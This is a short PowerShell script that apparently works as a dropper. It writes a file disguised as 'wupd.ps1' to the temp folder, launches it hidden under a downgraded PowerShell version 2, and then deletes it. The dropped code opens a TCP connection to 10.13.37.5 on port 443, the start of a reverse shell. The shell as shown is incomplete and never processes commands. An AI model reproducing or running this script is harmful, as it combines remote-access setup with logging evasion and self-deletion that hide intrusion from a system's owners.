$payload = "$env:TEMP\wupd.ps1"
$src = @'
$c = New-Object System.Net.Sockets.TCPClient('10.13.37.5', 443)
$s = $c.GetStream()
'@
Set-Content -Path $payload -Value $src -Encoding ASCII

Start-Process -FilePath powershell.exe -ArgumentList '-Version', '2', '-NoP', '-W', 'Hidden', '-File', $payload -WindowStyle Hidden
Start-Sleep -Seconds 2
Remove-Item -Path $payload -Force
